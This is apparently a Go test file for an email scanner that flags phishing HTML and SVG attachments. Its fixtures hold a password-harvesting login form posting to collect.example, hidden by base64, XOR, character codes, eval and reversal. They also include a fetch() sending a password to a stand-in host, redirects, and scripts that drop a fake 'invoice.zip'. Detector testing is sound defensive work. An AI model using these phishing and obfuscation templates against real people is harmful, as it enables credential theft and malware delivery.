package scan_test

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"tocsin/internal/email"
	"tocsin/internal/scan"
	"tocsin/internal/scan/scantest"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func turned(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func charCodes(s string, add int) string {
	var out []string
	for i := range len(s) {
		out = append(out, fmt.Sprint(int(s[i])+add))
	}
	return strings.Join(out, ",")
}

func mixed(s string, key byte) string {
	var out []string
	for i := range len(s) {
		out = append(out, fmt.Sprint(s[i]^key))
	}
	return strings.Join(out, ",")
}

const (
	login = `<html><body><h2>Sign in to read the document</h2><form action="https://collect.example/p.php" method="post"><input type="email" name="u"><input type="password" name="p"><button>Next</button></form></body></html>`
	zip   = "PK\x03\x04\x14\x00\x00\x00\x08\x00 this would be the rest of an archive with a program inside, long enough"
)

// TestPages reads pages that attack, each by another way of hiding.
func TestPages(t *testing.T) {
	for _, c := range []struct{ name, file, page, facts, links string }{
		{"login form", "a.html", login, "page-asks-password", "https://collect.example/p.php"},
		{"base64 written", "a.htm", "<script>document.write(atob('" + b64(login) + "'))</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"by a variable", "a.html", "<script>var q='" + b64(login) + "';var w=window.atob(q);document.open();document.write(w);document.close()</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"percent signs", "a.html", "<script>document.write(unescape('" + strings.ReplaceAll(url.QueryEscape(login), "+", "%20") + "'))</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"character codes", "a.html", "<script>document.write(String.fromCharCode(" + charCodes(login, 0) + "))</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"numbers with a key", "a.html", "<script>var d=[" + mixed(login, 77) + "];var o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d[i]^77);document.write(o)</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"backwards", "a.html", "<script>document.write('" + strings.ReplaceAll(turned(login), "'", "\\'") + "'.split('').reverse().join(''))</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"in pieces", "a.html", "<script>var a=['" + b64(login)[:100] + "','" + b64(login)[100:] + "'];eval('document.write(atob(\"'+a.join('')+'\"))')</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"twice", "a.html", "<script>eval(atob('" + b64("document.write(atob('"+b64(login)+"'))") + "'))</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"hexadecimal", "a.html", "<script>var h='" + hex.EncodeToString([]byte(login)) + "';</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"in an element", "a.html", "<div id=x hidden>" + b64(login) + "</div><script>document.body.innerHTML=atob(document.getElementById('x').textContent)</script>", "page-asks-password page-decodes-itself page-runs-script", "https://collect.example/p.php"},
		{"in a frame", "a.html", `<iframe src="data:text/html;base64,` + b64(login) + `"></iframe>`, "page-asks-password page-decodes-itself", "https://collect.example/p.php"},
		{"sent by fetch", "a.html", `<input type=password id=p><script>fetch('https://collect.example/p', {method:'POST', body: p.value})</script>`, "page-asks-password page-runs-script", "https://collect.example/p"},
		{"refresh", "a.html", `<meta http-equiv="refresh" content="0; url='https://go.example/x'">`, "page-redirects", "https://go.example/x"},
		{"location", "a.html", `<script>window.location.href = "https://" + "go.exam" + "ple/x";</script>`, "page-redirects page-runs-script", "https://go.example/x"},
		{"location replaced", "a.shtml", `<body onload="location.replace(atob('` + b64("https://go.example/x") + `'))">`, "page-decodes-itself page-redirects page-runs-script", "https://go.example/x"},
		{"with the reader", "a.html", `<script>var e="maren.okafor@northwindharbour.example";location.href="https://go.example/x#"+e</script>`, "page-names-reader page-redirects page-runs-script", "https://go.example/x#maren.okafor@northwindharbour.example"},
		{"whole frame", "a.html", `<iframe src="https://go.example/x" width="100%" height="100%"></iframe>`, "page-frames-site", "https://go.example/x"},
		{"builds an archive", "a.html", "<script>var f='" + b64(zip) + "';var b=new Blob([atob(f)],{type:'octet/stream'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script>", "page-builds-file page-runs-script", ""},
		{"archive by msSaveBlob", "a.html", "<script>var u=new Uint8Array([" + charCodes(zip, 0) + "]);window.navigator.msSaveOrOpenBlob(new Blob([u]),'i.zip')</script>", "page-builds-file page-runs-script", ""},
		{"archive in a link", "a.html", `<a id=d download="i.zip" href="data:application/zip;base64,` + b64(zip) + `">x</a><script>d.click()</script>`, "page-builds-file page-runs-script", ""},
		{"garbled", "a.html", "<script>" + strings.Repeat("var _0x12ab=_0x34cd(0x1);", 40) + "</script>", "page-garbled-script page-runs-script", ""},
		{"UTF-16", "a.html", utf16LE(login), "page-asks-password", "https://collect.example/p.php"},
		{"picture with script", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript"><![CDATA[window.location.href="https://go.example/x"; eval(atob("` + b64("var x = 1 + 1; document.title = x;") + `"))]]></script></svg>`, "page-decodes-itself page-redirects svg-script", "https://go.example/x"},
		{"picture with page", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml">` + login[12:] + `</foreignObject></svg>`, "page-asks-password svg-holds-page", "https://collect.example/p.php"},
		{"picture that loads", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="location='https://go.example/x'"><rect width="9" height="9"/></svg>`, "page-redirects svg-script", "https://go.example/x"},
	} {
		m, r := look(c.file, []byte(c.page))
		if got := factIDs(r); got != c.facts {
			t.Errorf("%s: facts %q, want %q; defects %v", c.name, got, c.facts, m.Defects)
		}
		if got := linksOf(m); got != c.links {
			t.Errorf("%s: links %q, want %q", c.name, got, c.links)
		}
		if strings.Contains(c.facts, "builds-file") && (len(m.Attachments) != 2 || m.Attachments[1].Kind != "zip") {
			t.Errorf("%s: files %+v", c.name, m.Attachments)
		}
	}
}

func utf16LE(s string) string {
	out := []byte{0xFF, 0xFE}
	for i := range len(s) {
		out = append(out, s[i], 0)
	}
	return string(out)
}

// TestHarmlessPages holds that ordinary pages raise nothing but the weak fact that a script runs.
func TestHarmlessPages(t *testing.T) {
	picture := base64.StdEncoding.EncodeToString(scantest.PNG(scantest.NewQR("seat 12").Draw(scantest.Picture{})))
	for name, c := range map[string]struct{ file, page string }{
		"report":      {"report.html", "<html><head><title>Coverage</title><style>td{padding:2px}</style></head><body><h1>Coverage</h1><table><tr><td>a.go</td><td>91%</td></tr></table></body></html>"},
		"chart":       {"chart.html", "<html><script src=\"https://cdn.plot.ly/plotly-2.0.min.js\"></script><div id=g></div><script>var data=[{x:[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24,25,26],y:[2,6,3]}];Plotly.newPlot('g', data, {title: 'Load'});</script></html>"},
		"newsletter":  {"news.htm", "<html><body><p>Our autumn offers</p><a href=\"https://shop.example/offers\">See them</a><img src=\"https://shop.example/o.gif\" width=1 height=1><script async src=\"https://www.googletagmanager.com/gtag/js?id=G-1\"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-1');</script></body></html>"},
		"old counter": {"saved.html", `<script type="text/javascript">var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`},
		"ticket":      {"ticket.html", "<html><body><h1>Boarding pass</h1><p>Seat 12A</p><img src=\"data:image/png;base64," + picture + "\"><script>function printPass(){window.print()}</script><button onclick=\"printPass()\">Print</button></body></html>"},
		"sortable":    {"table.html", "<script>document.querySelectorAll('th').forEach(h=>h.addEventListener('click',()=>{const t=h.closest('table');Array.from(t.rows).sort((a,b)=>a.cells[0].innerText.localeCompare(b.cells[0].innerText)).forEach(r=>t.appendChild(r))}))</script><table><th>Name<tr><td>x</table>"},
		"data":        {"page.html", `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Event","url":"https://shop.example/e"}</script><p>Concert</p>`},
		"logo":        {"logo.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"><defs><linearGradient id="a"><stop offset="0"/></linearGradient></defs><path d="M0 0h10v10z" fill="url(#a)"/><use xlink:href="#a"/></svg>`},
		"inkscape":    {"plan.svg", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata><a href="https://plans.example/floor"><text>Floor 2</text></a><image href="data:image/png;base64,` + picture + `"/></svg>`},
		"graph":       {"flame.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script type="text/ecmascript"><![CDATA[var details; function init(evt){details=document.getElementById("details").firstChild;} function s(info){details.nodeValue="Function: "+info;}]]></script><rect onmouseover="s('main')" width="9" height="9"/></svg>`},
	} {
		m, r := look(c.file, []byte(c.page))
		for _, f := range r.Facts {
			if f.ID != "page-runs-script" && f.ID != "page-only-shows" && f.ID != "qr-text" {
				t.Errorf("%s: %v", name, f)
			}
		}
		for _, d := range m.Defects {
			t.Errorf("%s: %v", name, d)
		}
	}
}

func TestInvitation(t *testing.T) {
	ics := "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"Pay: roll\":mailto:desk@pay.example\r\nSUMMARY:Pay\r\n" +
		"ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"a.zip\":" + b64(zip)[:40] + "\r\n " + b64(zip)[40:] + "\r\nATTACH:https://pay.example/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
	m, r := look("a.ics", []byte(ics))
	if got := factIDs(r); got != "calendar-invitation calendar-no-place" || r.Facts[1].Detail != `REQUEST from "Pay: roll" desk@pay.example` {
		t.Errorf("facts %v", r.Facts)
	}
	if len(m.Attachments) != 2 || m.Attachments[1].Kind != "zip" || m.Attachments[1].Name != "a.zip" {
		t.Errorf("files %+v", m.Attachments)
	}
	if got := linksOf(m); got != "https://pay.example/x" {
		t.Errorf("links %q", got)
	}
}

// TestLongScripts holds scripts without sense to time that grows with their length.
func TestLongScripts(t *testing.T) {
	for name, code := range map[string]string{
		"pluses":   "x=" + strings.Repeat("'a'+", 300_000) + "'b'",
		"arrays":   strings.Repeat("[", 500_000),
		"calls":    strings.Repeat("atob(", 500_000),
		"splits":   "x='" + strings.Repeat("ab", 100_000) + "'" + strings.Repeat(".split('').join('')", 20_000),
		"appends":  strings.Repeat("x+='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';", 60_000),
		"numbers":  "[" + strings.Repeat("[1,2,3,4,5,6,7,8,", 100_000),
		"parens":   strings.Repeat("(", 500_000) + "'a'",
		"backtick": strings.Repeat("`", 1_000_001),
		"markup":   "document.write('" + strings.Repeat("<script>x=1</script>", 50_000) + "')",
	} {
		start := time.Now()
		m := lookBriefly("a.html", []byte("<script>"+code+"</script>"))
		if d := time.Since(start); d > tooLong {
			t.Errorf("%s: %v, defects %v", name, d, m.Defects)
		} else {
			t.Logf("%s: %v", name, d)
		}
	}
}

func FuzzPage(f *testing.F) {
	for _, s := range []string{login, "<script>document.write(atob('" + b64(login) + "'))</script>", "<svg onload=\"eval(unescape('%61%u0062'))\">", "<script>x=[1,2,3].join('').split('a').reverse().replace('a','b').substr(1,2);`\\u{41}\\x41\\101`</script>"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, doc string) {
		m := mail("text/plain", "", scantest.File{Name: "a.html", Content: []byte(doc)})
		scan.Open(context.Background(), m, scan.Limits{Time: 2 * time.Second})
		noInternalError(t, m)
		m = mail("text/plain", "", scantest.File{Name: "a.svg", Content: []byte("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>" + doc + "</script></svg>")})
		scan.Open(context.Background(), m, scan.Limits{Time: 2 * time.Second})
		noInternalError(t, m)
	})
}

func FuzzICS(f *testing.F) {
	f.Add("BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nORGANIZER:mailto:a@b.example\nATTACH;ENCODING=BASE64;X-FILENAME=\"a:b\":UEsDBA==\nX-ALT-DESC;FMTTYPE=text/html:<p>\\n</p>\nEND:VEVENT")
	f.Fuzz(func(t *testing.T, doc string) {
		m := email.Parse(scantest.Mail("text/plain", "", scantest.File{Name: "a.ics", Type: "text/calendar", Content: []byte("BEGIN:VCALENDAR\n" + doc)}), email.Limits{})
		scan.Open(context.Background(), m, scan.Limits{Time: 2 * time.Second})
		noInternalError(t, m)
	})
}
